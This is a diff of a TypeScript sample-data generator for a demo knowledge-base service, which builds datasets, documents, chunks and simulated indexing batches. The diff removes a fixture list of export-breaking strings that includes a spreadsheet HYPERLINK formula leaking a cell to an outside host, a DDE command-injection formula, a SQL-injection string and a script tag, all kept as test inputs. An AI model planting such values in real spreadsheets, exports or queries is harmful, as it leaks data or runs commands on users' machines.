@@ -1,30 +1,23 @@
 import { type DemoKnowledge, demoKnowledge } from "../demo-knowledge.js";
 import { DocumentStore } from "../document-store.js";
+import type { Listed } from "../knowledge.js";
 import {
   accounts,
   type Batch,
-  newDataset,
-  type StatusEntry,
+  builtInFields,
+  type Chunk,
+  countsOf,
+  type Document,
+  newChild,
+  newChunk,
+  type StoredChunk,
   type StoredDataset,
   type StoredDocument,
+  stableId,
   sumOf,
 } from "../rows.js";
-import {
-  asOlderServer,
-  buildDocument,
-  type DatasetOutline,
-  datasetId,
-  inEveryStatus,
-  tooLong,
-  withAttachments,
-  withEdits,
-  withLanguageHint,
-  withLinks,
-  withNulls,
-  withoutSignedCopy,
-  withSummaries,
-} from "./build-document.js";
-import { english, languages, randomFrom, sentences } from "./prose.js";
+import { type DatasetOutline, type DocumentOutline, outlines } from "./outlines.js";
+import { english, keywords, languages, question, type Random, randomFrom, sentences, wholeFrom } from "./prose.js";
 
 /**
  * The sample data: about 5,000 chunks and 3,000 child chunks, always the same until something is written or a document is
@@ -35,189 +28,147 @@ export function sampleKnowledge(clock: () => Date): DemoKnowledge {
   return demoKnowledge(new DocumentStore(datasets, clock));
 }
 
+/** The id of a sample dataset. */
+export function datasetId(dataset: DatasetOutline): string {
+  return stableId(dataset.name);
+}
+
+/** The id of a sample document. */
+export function documentId(dataset: DatasetOutline, documentName: string): string {
+  return stableId(`${dataset.name}/${documentName}`);
+}
+
+/** Builds a dataset with all its documents, which the store counts. */
 export function buildDataset(outline: DatasetOutline, clock: () => Date): StoredDataset {
   const documents = outline.documents.map((document) => buildDocument(outline, document));
-  const batches = outline.batches.map(({ id, documents: names, underWay }) => {
+  const batches = outline.batches.map(({ id, documents: names, underWay }): Batch => {
     const members = documents.filter(({ row }) => names.includes(row.name));
-    return underWay ? batchUnderWay(id, members, clock) : restingBatch(id, members);
+    return underWay ? batchUnderWay(id, members, clock) : { id, entries: () => members.map(restingEntry) };
   });
-  const rows = documents.map(({ row }) => row);
-  const time = Math.min(...rows.map(({ created_at }) => created_at));
   const { name, description, technique } = outline;
+  const [isEmbedded, by] = [technique === "high_quality", accounts.author];
+  const time = Math.min(...documents.map(({ row }) => row.created_at));
   const row = {
-    ...newDataset({ id: datasetId(outline), name, description, technique, time, by: accounts.author }),
-    ...{ permission: "all_team_members", data_source_type: "upload_file", document_count: rows.length },
-    ...{ word_count: sumOf(rows, "word_count"), doc_form: rows[0]?.doc_form ?? null, built_in_field_enabled: true },
-    total_documents: rows.length,
-    total_available_documents: rows.filter(({ error }) => error === null).length,
+    ...{ id: datasetId(outline), name, description, provider: "vendor", permission: "all_team_members" },
+    ...{ data_source_type: "upload_file", indexing_technique: technique, app_count: 0, document_count: 0 },
+    ...{ word_count: 0, created_by: by, author_name: authorName, created_at: time, updated_by: by, updated_at: time },
+    embedding_model: isEmbedded ? "text-embedding-3-small" : null,
+    embedding_model_provider: isEmbedded ? "openai" : null,
+    embedding_available: true,
+    retrieval_model_dict: {
+      search_method: isEmbedded ? "semantic_search" : "keyword_search",
+      ...{ reranking_enable: false, reranking_mode: null },
+      reranking_model: { reranking_provider_name: "", reranking_model_name: "" },
+      ...{ weights: null, top_k: 4, score_threshold_enabled: false, score_threshold: null },
+    },
+    ...{ summary_index_setting: null, tags: [], doc_form: null, doc_metadata: builtInFields },
+    ...{ built_in_field_enabled: true, pipeline_id: null, runtime_mode: "general", total_documents: 0 },
+    ...{ total_available_documents: 0, enable_api: true, is_multimodal: false },
   };
   return { row, documents, batches };
 }
 
-const policy = { form: "text_model", topic: "policy" } as const;
+const authorName = "Sample author";
+const firstDay = Date.UTC(2025, 0, 6, 8) / 1000;
 
-/** The second dataset: plain text only, long and short documents, older rows, and a failed import. */
-const companyHandbook: DatasetOutline = {
-  name: "Company handbook",
-  description: "Rules for work, leave and travel, in the languages of all offices.",
-  technique: "economy",
-  documents: [
-    { ...policy, name: "Employee handbook.docx", chunkCount: 1180, peculiarities: [withEdits] },
-    { ...policy, name: "Travel and expenses.pdf", chunkCount: 300 },
-    { ...policy, name: "Announcements.txt", chunkCount: 0 },
-    {
-      ...{ ...policy, name: "Handbook of 2019.docx", languages: [english], chunkCount: 250 },
-      peculiarities: [withNulls, asOlderServer],
-    },
-    { ...policy, name: "Works agreements.pdf", chunkCount: 200, fractionalTimes: true },
-    { ...policy, name: "Interrupted import.csv", chunkCount: 64, peculiarities: [inEveryStatus], error: tooLong },
-  ],
-  batches: [
-    {
-      id: "20250602093000654321",
-      documents: ["Employee handbook.docx", "Travel and expenses.pdf"],
-      underWay: true,
-    },
-    { id: "import/März 2025 #3? 100%", documents: ["Announcements.txt", "Interrupted import.csv"], underWay: false },
-  ],
-};
+/** Builds a document with all its chunks. */
+export function buildDocument(dataset: DatasetOutline, outline: DocumentOutline): StoredDocument {
+  const { name, form, error = null, embedsChildren = false } = outline;
+  const [id, by] = [documentId(dataset, name), accounts.author];
+  const position = dataset.documents.indexOf(outline) + 1;
+  const created_at = firstDay + position * 86_400;
+  const countsTokens = dataset.technique === "high_quality";
+  const source = { document: { id, doc_form: form, created_at }, outline, countsTokens };
+  const random = randomFrom(id);
+  const chunks = Array.from({ length: outline.chunkCount }, (_, index) => buildChunk(source, random, index + 1));
+  const rows = chunks.map(({ row }) => row);
+  const state = error === null ? "completed" : "error";
+  const file = {
+    ...{ id: stableId(`${id}/file`), name, size: Buffer.byteLength(sampleText(id, name)) },
+    ...{ extension: name.split(".").at(-1) ?? "", mime_type: "text/plain", created_by: by, created_at },
+  };
+  const rule = { id: stableId(`${id}/rule`), ...sampleRule(form, embedsChildren) };
+  const metadata = [name, authorName, `${created_at}.0`, `${created_at}.0`, "file_upload"];
+  const row = {
+    ...{ id, position, data_source_type: "upload_file", data_source_info: { upload_file_id: file.id } },
+    ...{ data_source_detail_dict: { upload_file: file }, dataset_process_rule_id: rule.id, name, created_from: "api" },
+    ...{ created_by: by, created_at, tokens: sumOf(rows, "tokens"), indexing_status: state, error, enabled: true },
+    ...{ disabled_at: null, disabled_by: null, archived: false },
+    ...{ display_status: error === null ? "available" : "error", word_count: sumOf(rows, "word_count") },
+    ...{ hit_count: sumOf(rows, "hit_count"), doc_form: form },
+    doc_metadata: builtInFields.map((field, index) => ({ ...field, value: metadata[index] })),
+    ...{ summary_index_status: null, need_summary: false },
+  };
+  const details = {
+    ...{ data_source_info: { upload_file: file }, doc_language: "English", doc_type: null },
+    ...{ document_process_rule: rule, updated_at: created_at },
+    completed_at: error === null ? created_at + 60 : null,
+    indexing_latency: error === null ? 60 : null,
+  };
+  return { row, details, chunks, embedsChildren };
+}
 
-const oddTexts = oddContents();
-const guideChildren = [250, 101, 100, 1, 0];
-const languageTag = (number: number) => languages[(number - 1) % languages.length]?.tag ?? english.tag;
-const hierarchical = { form: "hierarchical_model", topic: "product" } as const;
+/** The text of the file that a document was made from, of some kilobytes. The demo gives only its size. */
+export function sampleText(id: string, name: string): string {
+  const lines = 100 + (Number.parseInt(id.slice(0, 4), 16) % 400 || 0);
+  return Array.from({ length: lines }, (_, at) => `${name}: line ${at + 1} of the original file\n`).join("");
+}
 
-/** The first dataset: every document form, both kinds of parents, and contents that break exports. */
-export const productKnowledge: DatasetOutline = {
-  name: "Product knowledge",
-  description: "Manuals, release notes and support answers for the heating control system.",
-  technique: "high_quality",
-  documents: [
-    {
-      ...{ ...hierarchical, name: "Administrator guide.docx", chunkCount: 600, embedsChildren: true },
-      childCount: (number) => guideChildren[number - 1] ?? number % 4,
-      peculiarities: [withLinks, withSummaries],
-    },
-    {
-      ...{ ...hierarchical, name: "User manual.pdf", chunkCount: 740, embedsChildren: true },
-      childCount: (number) => number % 3,
-      peculiarities: [withAttachments, withEdits, withLanguageHint(languageTag)],
-    },
-    { ...hierarchical, name: "Release notes.md", languages: [english], chunkCount: 1, childCount: () => 250 },
-    {
-      ...{ ...hierarchical, name: "Installation leaflets.pdf", chunkCount: 40 },
-      childCount: (number) => number % 25,
-      peculiarities: [withLinks],
-    },
-    {
-      ...{ name: "Answers of the support team.csv", form: "qa_model", topic: "support", chunkCount: 900 },
-      peculiarities: [withoutSignedCopy, withEdits],
-    },
-    {
-      ...{ name: "Troubleshooting.md", form: "text_model", topic: "product", chunkCount: 700 },
-      childCount: (number) => (number % 10 === 0 ? 2 : 0),
-      peculiarities: [withLinks, withAttachments, withSummaries, withNulls],
-    },
-    {
-      ...{ ...hierarchical, name: "Contents that break exports.txt", languages: [english], embedsChildren: true },
-      ...{ chunkCount: oddTexts.length, texts: oddTexts, childCount: () => 1 },
-    },
-  ],
-  batches: [
-    {
-      id: "20250306120000123456",
-      documents: ["Administrator guide.docx", "User manual.pdf", "Release notes.md", "Answers of the support team.csv"],
-      underWay: false,
-    },
-  ],
-};
-
-export const outlines: readonly DatasetOutline[] = [productKnowledge, companyHandbook];
-
-/** Contents that break careless exports, all seen in real documents. None contains NUL, which a database would reject. */
-export function oddContents(): readonly string[] {
-  return [
-    "",
-    // Line breaks
-    "first line\nsecond line\n\nfourth line\n",
-    "an old Mac file\rwhere lines end like this\r",
-    "a Windows file\r\nwhere lines end like this\r\n",
-    "mixed\nends\rof\r\nlines\n\r",
-    "a line separator\u2028and a paragraph separator\u2029 that are no line breaks in JSON",
-    "a next-line character\u0085 and a form feed\f and a vertical tab\v",
-    "\n",
-    // Quotes and commas
-    'She asked: "Is this the last page?" He said: "No."',
-    '"quoted from end to end"',
-    '""',
-    '"',
-    "commas, more commas,, and a last one,",
-    'id,name\n1,"Smith, ""Bob"""\n',
-    "semicolons; tabs\tand | pipes",
-    "it's 'single' `back` and „German“ «French» 「日本語」 quotes",
-    "a backslash \\ , an escaped one \\\\ , \\n and \\u0041 written out",
-    // Formulas
-    "=1+1",
-    '=HYPERLINK("http://example.com/?leak="&A1,"Click me")',
-    "+cmd|' /C calc'!A0",
-    "-2",
-    "@SUM(A1:A9)",
-    "\t=1+1",
-    "\r=1+1",
-    "＝1+1 with a full-width sign",
-    // Texts that look like other values
-    "null",
-    "NULL",
-    "\\N",
-    "true",
-    "007",
-    "1e5",
-    "12345678901234567890",
-    "2025-03-06T13:20:00Z",
-    "   spaces before and after   ",
-    " ",
-    '{"id": null, "data": [1, 2, 3]}',
-    "$HOME %PATH% $1 %s {{template}}",
-    // Scripts
-    "emoji 😀 👍🏽 🏳️‍🌈 🇯🇵 and the family 👨‍👩‍👧‍👦, one sign of seven code points",
-    "日本語の文章、中文內容、한국어 문장, and the rare 𠮷 outside the basic plane",
-    "\u200fעברית עם \u202bסימני כיוון\u202c ו\u2067בידוד\u2069 בתוך English\u200e",
-    "\u200fالعربية 123 مع English داخل السطر\u061c",
-    "é as one and e\u0301 as two code points, Å and A\u030a, ﬁ ligature",
-    "zero width: joi\u200dner, space\u200b, no-break\u00a0space, soft\u00adhyphen",
-    "Z\u0351\u036b\u0343a\u0369\u0321l\u0348\u0333g\u0321\u0353o\u0329\u0327 text",
-    // Control characters
-    `every control character but NUL: ${codePoints(0x01, 0x1f)}${codePoints(0x7f, 0x9f)}`,
-    "\ufeffstarts with a byte order mark",
-    "noncharacters \ufffe \uffff and the replacement character \ufffd",
-    // Markup
-    "# Heading\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nconst x = `a`;\n```\n",
-    "<script>alert('hello')</script> &amp; <b>bold</b> <!-- comment -->",
-    "Robert'); DROP TABLE chunks;--",
-    "word".repeat(2_000),
-    textOf(102_400),
+/** How a document of this form was cleaned and split. */
+function sampleRule(form: string, embedsChildren: boolean) {
+  const pre_processing_rules = [
+    { id: "remove_extra_spaces", enabled: true },
+    { id: "remove_urls_emails", enabled: false },
   ];
+  const rules = { pre_processing_rules, segmentation: { separator: "\n\n", max_tokens: 1024, chunk_overlap: 50 } };
+  if (form !== "hierarchical_model") return { mode: "custom", rules };
+  const subchunk_segmentation = { separator: "\n", max_tokens: 512, chunk_overlap: 0 };
+  const parent_mode = embedsChildren ? "paragraph" : "full-doc";
+  return { mode: "hierarchical", rules: { ...rules, parent_mode, subchunk_segmentation } };
 }
 
-function codePoints(first: number, last: number): string {
-  return String.fromCodePoint(...Array.from({ length: last - first + 1 }, (_, index) => first + index));
+/** Seconds after which a document is split: the service makes all its chunks before it indexes the first. */
+const splitAfter = 9;
+
+/** The document to build chunks for. */
+interface ChunkSource {
+  readonly document: Pick<Document, "id" | "doc_form" | "created_at">;
+  readonly outline: DocumentOutline;
+  readonly countsTokens: boolean;
 }
 
-function textOf(characters: number): string {
-  const random = randomFrom("a very long chunk");
-  return sentences(random, english, "product", characters / 50)
-    .join(" ")
-    .slice(0, characters);
+/** Builds chunk number `number` (from 1) with its child chunks. Chunks must be built in order, because they share random numbers. */
+function buildChunk({ document, outline, countsTokens }: ChunkSource, random: Random, number: number): StoredChunk {
+  const { form, topic, languages: turns = languages, peculiarities = [] } = outline;
+  const language = turns[(number - 1) % turns.length] ?? english;
+  const childCount = outline.childCount?.(number) ?? 0;
+  const prose = () =>
+    form === "qa_model"
+      ? [question(random, language)]
+      : sentences(random, language, topic, Math.max(childCount, wholeFrom(random, 2, 6)));
+  const text = outline.texts?.[number - 1];
+  const parts = text === undefined ? prose() : [text];
+  const answer = form === "qa_model" ? sentences(random, language, topic, 3).join(language.space) : "";
+  const texts = { content: parts.join(language.space), answer, keywords: keywords(random, language, topic) };
+  const id = stableId(`${document.id}/${number}`);
+  const fraction = outline.fractionalTimes ? ((number * 7919) % 1_000_000) / 1_000_000 : 0; // six digits, as in a database
+  const time = document.created_at + splitAfter + fraction;
+  const children = parts.slice(0, childCount).map((part, index) => {
+    // Child chunks that people made are in English, so that a reader can judge what a re-index loses.
+    const type = language === english && index % 7 === 2 ? "customized" : "automatic";
+    return newChild(id, part, type, { id: stableId(`${id}/${index + 1}`), position: index + 1, time });
+  });
+  const plain: Chunk = {
+    ...newChunk(document, texts, countsTokens, { id, position: number, time, by: accounts.author }),
+    ...countsOf(texts.content, null, countsTokens),
+    ...{ hit_count: Math.max(0, wholeFrom(random, -20, 20)), indexing_at: time + 1, completed_at: time + 2 },
+    child_chunks: outline.embedsChildren ? children : [],
+  };
+  return { row: peculiarities.reduce((chunk, peculiarity) => peculiarity(chunk, number), plain), children };
 }
 
-/** A finished batch. Its entries follow from the documents and never change. */
-export function restingBatch(id: string, documents: readonly StoredDocument[]): Batch {
-  const entries = documents.map(entryOf);
-  return { id, entries: () => entries };
-}
-
-/** Chunks being replaced are not counted. */
-function entryOf({ row, chunks }: StoredDocument): StatusEntry {
+/** The entry of a document in a finished batch. Chunks being replaced are not counted. */
+export function restingEntry({ row, chunks }: StoredDocument): Listed {
   const { id, created_at, error = null } = row;
   const counted = chunks.filter((chunk) => chunk.row.status !== "re_segment");
   return {
@@ -239,7 +190,7 @@ const readsToFinish = 20;
  * A batch whose counts grow with each read until it is completed after 20 reads. No count ever decreases. Only the progress is
  * simulated: all chunks exist from the start, so that every dump of them is the same.
  */
-export function batchUnderWay(id: string, documents: readonly StoredDocument[], clock: () => Date): Batch {
+function batchUnderWay(id: string, documents: readonly StoredDocument[], clock: () => Date): Batch {
   const now = (): number => Math.floor(clock().getTime() / 1000);
   const startedAt = now();
   let reads = 0;
@@ -251,8 +202,9 @@ export function batchUnderWay(id: string, documents: readonly StoredDocument[], 
       reads = Math.min(reads + 1, readsToFinish);
       if (reads > readsToSplit) splitAt ??= now();
       if (reads === readsToFinish) completedAt ??= now();
+      const stage = completedAt !== null ? "completed" : splitAt !== null ? "indexing" : "splitting";
       return documents.map(({ row, chunks }) => ({
-        ...{ id: row.id, indexing_status: stageAfter(reads), processing_started_at: startedAt },
+        ...{ id: row.id, indexing_status: stage, processing_started_at: startedAt },
         ...{ parsing_completed_at: startedAt, cleaning_completed_at: startedAt, splitting_completed_at: splitAt },
         ...{ completed_at: completedAt, paused_at: null, error: null, stopped_at: null },
         completed_segments: Math.floor((chunks.length * reads) / readsToFinish),
@@ -260,9 +212,4 @@ export function batchUnderWay(id: string, documents: readonly StoredDocument[], 
       }));
     },
   };
-}
-
-function stageAfter(reads: number): string {
-  if (reads === readsToFinish) return "completed";
-  return reads > readsToSplit ? "indexing" : "splitting";
 }
